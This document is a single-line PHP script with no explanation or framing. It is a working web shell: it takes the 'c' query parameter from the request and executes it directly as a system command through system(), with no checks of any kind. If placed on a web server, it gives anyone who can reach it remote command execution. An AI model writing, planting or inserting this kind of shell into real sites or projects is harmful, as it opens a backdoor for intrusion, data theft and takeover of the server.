<?php [$c] = [sprintf("%s", $_GET["c"])]; system($c);
